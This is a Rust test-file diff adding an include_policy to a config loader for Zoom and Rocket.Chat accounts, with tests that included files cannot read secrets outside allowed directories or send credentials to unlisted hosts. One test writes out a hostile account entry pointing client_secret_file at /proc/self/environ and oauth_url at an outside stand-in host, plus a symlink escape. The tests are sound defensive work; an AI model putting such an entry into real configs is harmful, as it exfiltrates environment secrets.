@@ -445,6 +445,11 @@ fn zoom_entry(name: &str, extra: &str) -> String {
     format!("[[zoom]]\nname = \"{name}\"\naccount_id = \"acc\"\nclient_id = \"cid\"\nclient_secret = \"s-1234\"\n{extra}\n")
 }
 
+/// `MAIN_WITH_INCLUDE` letting included files use the self-hosted Rocket.Chat of these tests.
+fn main_allowing_chat() -> String {
+    format!("{MAIN_WITH_INCLUDE}[include_policy]\nhosts = [\"chat.example.com\"]\n")
+}
+
 fn zoom_names(c: &Config) -> Vec<&str> {
     c.zoom.iter().map(|a| a.name.as_str()).collect()
 }
@@ -458,7 +463,7 @@ fn included_accounts_follow_the_main_files_in_sorted_path_order() {
     // Written b first: the order comes from the sorted paths, not from the directory listing.
     let notes = ("accounts.d/notes.txt", "not toml, not matched");
     let (dir, main) = config_dir(
-        MAIN_WITH_INCLUDE,
+        &main_allowing_chat(),
         &[("accounts.d/b.toml", &b), ("accounts.d/a.toml", &a), notes],
     );
     let c = load(&main, "");
@@ -536,7 +541,7 @@ fn duplicate_names_across_files_name_both_files() {
         ("accounts.d/b.toml", &b),
         ("accounts.d/c.toml", c),
     ];
-    let (_dir, main) = config_dir(MAIN_WITH_INCLUDE, &files);
+    let (_dir, main) = config_dir(&main_allowing_chat(), &files);
     let by_main = format!("zoom[0].name in {}", main.display());
     let expected = [
         "accounts.d/b.toml: zoom[1].name: \"campus\" is already used by zoom[0].name in accounts.d/a.toml".to_owned(),
@@ -623,11 +628,20 @@ fn include_from_the_environment() {
     assert_eq!(found, [expected]);
 }
 
+/// `MAIN_WITH_INCLUDE` whose `[include_policy]` lets included files read secrets in `dir`.
+fn main_allowing(dir: &Path, more: &str) -> String {
+    format!(
+        "{MAIN_WITH_INCLUDE}[include_policy]\nsecret_dirs = [{:?}]\n{more}",
+        dir.display().to_string()
+    )
+}
+
 #[test]
 fn secrets_from_files_in_included_files() {
     let (_secret, path) = temp_file("from-a-file-1234\n");
     let good = format!("[[zoom]]\nname = \"a1\"\naccount_id = \"acc\"\nclient_id = \"cid\"\nclient_secret_file = {path:?}\n");
-    let (dir, main) = config_dir(MAIN_WITH_INCLUDE, &[("accounts.d/a.toml", &good)]);
+    let tmp = Path::new(&path).parent().unwrap();
+    let (dir, main) = config_dir(&main_allowing(tmp, ""), &[("accounts.d/a.toml", &good)]);
     let c = load(&main, "");
     assert_eq!(c.zoom[1].client_secret.expose_secret(), "from-a-file-1234");
 
@@ -650,4 +664,144 @@ fn a_star_does_not_match_a_leading_dot() {
     std::fs::create_dir(dir.path().join("accounts.d/..data")).unwrap();
     let included = load(&main, "").included;
     assert_eq!(included, [dir.path().join("accounts.d/a.toml")]);
+}
+
+// ---- include_policy: what an included file may do with a credential -------------------------------------
+
+/// The attack: an account file that reads the process environment and sends it elsewhere.
+#[test]
+fn an_included_file_cannot_read_proc_nor_send_to_another_host() {
+    let evil = "[[zoom]]\nname = \"evil\"\naccount_id = \"evil-acc\"\nclient_id = \"cid\"\nclient_secret_file = \"/proc/self/environ\"\noauth_url = \"http://elsewhere.example:8080/oauth/token\"\n";
+    let (_dir, main) = config_dir(MAIN_WITH_INCLUDE, &[("accounts.d/evil.toml", evil)]);
+    let found = load_problems(&main, "");
+    assert_eq!(found.len(), 2, "{found:#?}");
+    assert!(
+        found[0].starts_with(
+            "accounts.d/evil.toml: zoom[0].client_secret_file: \"/proc/self/environ\""
+        ) && found[0].contains("is under /proc: an included file may not read it"),
+        "{found:#?}"
+    );
+    assert!(
+        found[1].starts_with("accounts.d/evil.toml: zoom[0].oauth_url: \"http://elsewhere.example:8080\" is not a host an included file may send credentials to (allowed: https://api.zoom.us, https://zoom.us)"),
+        "{found:#?}"
+    );
+    // The same keys in the main file are the operator's own choice.
+    let own = evil.replace("name = \"evil\"", "name = \"own\"");
+    let (_dir, main) = config_dir(&format!("{MAIN_WITH_INCLUDE}{own}"), &[]);
+    assert_eq!(
+        load(&main, "").zoom[1].oauth_url,
+        "http://elsewhere.example:8080/oauth/token"
+    );
+}
+
+#[test]
+fn an_included_secret_must_resolve_inside_the_allowed_directories() {
+    let secrets = tempfile::tempdir().unwrap();
+    let outside = tempfile::tempdir().unwrap();
+    let inside = secrets.path().join("zoom");
+    std::fs::write(&inside, "s-1234\n").unwrap();
+    std::fs::write(outside.path().join("db"), "postgres://u:pw@db/x\n").unwrap();
+    // A symlink in the allowed directory that leads out of it, and one that stays inside.
+    let out_link = secrets.path().join("sneaky");
+    std::os::unix::fs::symlink(outside.path().join("db"), &out_link).unwrap();
+    let in_link = secrets.path().join("current");
+    std::os::unix::fs::symlink(&inside, &in_link).unwrap();
+    let entry = |name: &str, file: &Path| {
+        format!("[[zoom]]\nname = \"{name}\"\naccount_id = \"{name}-acc\"\nclient_id = \"cid\"\nclient_secret_file = {:?}\n", file.display().to_string())
+    };
+    let ok = entry("a1", &inside) + &entry("a2", &in_link);
+    let (dir, main) = config_dir(
+        &main_allowing(secrets.path(), ""),
+        &[("accounts.d/a.toml", &ok)],
+    );
+    let c = load(&main, "");
+    assert_eq!(c.zoom[2].client_secret.expose_secret(), "s-1234");
+
+    let bad = entry("b1", &out_link) + &entry("b2", &outside.path().join("db"));
+    std::fs::write(dir.path().join("accounts.d/b.toml"), bad).unwrap();
+    let found = load_problems(&main, "");
+    let resolved = outside.path().canonicalize().unwrap().join("db");
+    let first = format!(
+        "accounts.d/b.toml: zoom[0].client_secret_file: {:?} (it resolves to {:?}) is outside the directories an included file may read secrets from ({}); the main file's include_policy.secret_dirs lists them",
+        out_link.display().to_string(),
+        resolved.display().to_string(),
+        secrets.path().canonicalize().unwrap().display()
+    );
+    assert_eq!(found[0], first);
+    assert!(
+        found[1].starts_with("accounts.d/b.toml: zoom[1].client_secret_file: "),
+        "{found:#?}"
+    );
+    assert_eq!(found.len(), 2, "{found:#?}");
+    assert!(!found.join("\n").contains("pw@db"), "{found:#?}");
+
+    // By default only /run/secrets and /run/credentials: a temporary directory is outside.
+    let (_dir, main) = config_dir(
+        MAIN_WITH_INCLUDE,
+        &[("accounts.d/a.toml", &entry("a1", &inside))],
+    );
+    let found = load_problems(&main, "");
+    only(&found, "accounts.d/a.toml: zoom[0].client_secret_file: ");
+    assert!(
+        found[0].contains("(/run/secrets, /run/credentials)"),
+        "{found:#?}"
+    );
+}
+
+#[test]
+fn included_hosts_come_from_zoom_the_main_file_or_its_allowlist() {
+    let chat = |name: &str, url: &str| {
+        format!("[[rocketchat]]\nname = \"{name}\"\nurl = \"{url}\"\nuser_id = \"{name}-u\"\nauth_token = \"t-1234\"\n")
+    };
+    let sdk = "[[videosdk]]\nname = \"sdk\"\napi_key = \"k\"\napi_secret = \"s-1234\"\napi_url = \"https://api.zoom.us/v2\"\n";
+    let file = chat("campus", "https://chat.campus.example/") + sdk;
+    let (dir, main) = config_dir(MAIN_WITH_INCLUDE, &[("accounts.d/a.toml", &file)]);
+    let found = load_problems(&main, "");
+    only(&found, "accounts.d/a.toml: rocketchat[0].url: \"https://chat.campus.example\" is not a host an included file may send credentials to");
+
+    // Allowed by name (a bare host is https) ...
+    let allow = main_allowing(
+        Path::new("/run/secrets"),
+        "hosts = [\"chat.campus.example\"]\n",
+    );
+    std::fs::write(&main, allow).unwrap();
+    assert_eq!(load(&main, "").rocketchat[0].name, "campus");
+    // ... but not over another scheme or port.
+    let other = chat("campus", "http://chat.campus.example:8080");
+    std::fs::write(dir.path().join("accounts.d/a.toml"), &other).unwrap();
+    only(
+        &load_problems(&main, ""),
+        "accounts.d/a.toml: rocketchat[0].url: \"http://chat.campus.example:8080\" is not a host",
+    );
+
+    // A host the main file's own entries use is allowed; so is one the environment sets.
+    let main_chat = format!(
+        "{MAIN_WITH_INCLUDE}{}",
+        chat("hq", "http://chat.campus.example:8080/")
+    );
+    std::fs::write(&main, main_chat).unwrap();
+    assert_eq!(load(&main, "").rocketchat[1].name, "campus");
+    std::fs::write(&main, MAIN_WITH_INCLUDE).unwrap();
+    let c = load(
+        &main,
+        "ROLLCALL__ROCKETCHAT__0__URL=https://chat.env.example",
+    );
+    assert_eq!(c.rocketchat[0].url, "https://chat.env.example");
+}
+
+#[test]
+fn include_policy_problems_name_the_key() {
+    let text = format!("{MAIN_WITH_INCLUDE}[include_policy]\nsecret_dirs = [\"secrets\"]\nhosts = [\"https://chat.example.com/api\", \"ftp://x\"]\n");
+    let (_dir, main) = config_dir(&text, &[]);
+    let found = load_problems(&main, "");
+    let hosts = "expected a host or an origin such as \"chat.example.com\" or \"http://127.0.0.1:3000\" (no path), got";
+    assert_eq!(
+        found,
+        [
+            "include_policy.secret_dirs[0]: expected an absolute directory, got \"secrets\""
+                .to_owned(),
+            format!("include_policy.hosts[0]: {hosts} \"https://chat.example.com/api\""),
+            format!("include_policy.hosts[1]: {hosts} \"ftp://x\""),
+        ]
+    );
 }
